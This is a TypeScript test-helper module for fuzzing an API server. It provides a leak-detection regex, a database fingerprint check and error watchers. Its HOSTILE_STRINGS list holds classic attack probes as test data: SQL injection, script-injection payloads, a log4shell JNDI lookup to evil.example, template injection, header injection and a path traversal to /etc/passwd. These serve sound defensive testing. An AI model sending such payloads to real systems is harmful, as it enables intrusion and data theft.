import type fc from 'fast-check';
import type { TestKeyward } from './keyward.js';
import { publicTables } from './leaks.js';

/** What a message written for a person never contains: stack frames, source files, driver, SQL or parser internals. */
export const INTERNALS = new RegExp(
  [
    String.raw`\n\s+at `, // a stack frame
    String.raw`\.(ts|js|cjs|mjs):\d+`, // a source position
    'node_modules',
    'ECONN',
    'QueryFailedError|DriverException|MikroORM',
    'Cannot read propert|is not a function|undefined is not|TypeError|RangeError',
    'invalid input syntax|violates .* constraint|duplicate key|value too long for type|invalid byte sequence',
    String.raw`\bselect\s+("\w+"\.|\*)|\binsert into "\w+"|\bupdate "\w+" set|\bdelete from "\w+"`, // SQL as MikroORM writes it
    String.raw`\bpg_\w+|asn1js|pkijs|valueBeforeDecode`,
  ].join('|'),
  'i',
);

/** Half of a UTF-16 surrogate pair, on its own: JSON can carry one ("\udfff"), UTF-8 cannot. */
export const UNPAIRED_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/** Text a careless or hostile caller sends. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '   \t\n  ',
  '\u0000',
  'a\u0000b',
  '\u0007\u0008\u001b[31mred\u001b[0m',
  '\r\nSet-Cookie: x=y',
  '\u202eevil\u202c',
  '\ufeffbom',
  '\ud800',
  'lone \udfff surrogate',
  '💥',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'Ω≈ç√∫˜µ≤≥÷',
  '名前テスト',
  'זה טקסט',
  'Z̷̢̛͚a̶̧͈l̸̨g̵o̴',
  "'; drop table api_client; --",
  "' or '1'='1",
  '" or ""="',
  '\\',
  '\\u0000',
  '%',
  '_',
  '%00',
  '%s%s%n',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a log4shell probe, sent as is
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '../../../../etc/passwd',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '__proto__',
  'constructor',
  '00000000-0000-0000-0000-000000000000',
  'kwcs_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA000000',
  'https://evil.example/?q=%00',
];

/**
 * A cheap fingerprint of the whole database in one round trip: the row count of every table in the public schema and
 * the newest event of each audit chain (every change writes one). Equal before and after a refused request means it
 * changed nothing.
 */
export async function databaseFingerprint(kw: TestKeyward): Promise<() => Promise<string>> {
  const tables = await publicTables(kw);
  const query = `select ${tables.map((table) => `(select count(*) from "${table}") as "${table}"`).join(', ')},
    (select string_agg(chain_key || ':' || seq, ',' order by chain_key) from audit_chain_head) as audit_heads`;
  return async () => JSON.stringify((await kw.sql(query))[0]);
}

/** Records unhandled rejections and uncaught exceptions of this process (the server runs in it) until stopped. */
export function watchForUnhandled(): { events: unknown[]; stop(): void } {
  const events: unknown[] = [];
  const record = (reason: unknown) => void events.push(reason instanceof Error ? `${reason.name}: ${reason.message}` : reason);
  process.on('unhandledRejection', record);
  process.on('uncaughtException', record);
  return {
    events,
    stop() {
      process.off('unhandledRejection', record);
      process.off('uncaughtException', record);
    },
  };
}

/** The server's log lines at level error (pino 50) or above, shortened for a readable failure. */
export function errorLogLines(kw: TestKeyward): string[] {
  return kw.logs.filter((line) => (JSON.parse(line) as { level: number }).level >= 50).map((line) => line.slice(0, 800));
}

/**
 * fast-check's options for a property: a fresh random seed on every run, printed with any failure (with the path of
 * the shrunk case); FUZZ_SEED=<seed> runs every property with that seed again, to reproduce one.
 */
export function fuzzRuns<T>(numRuns: number): fc.Parameters<T> {
  const seed = process.env.FUZZ_SEED;
  return seed ? { numRuns, seed: Number(seed) } : { numRuns };
}
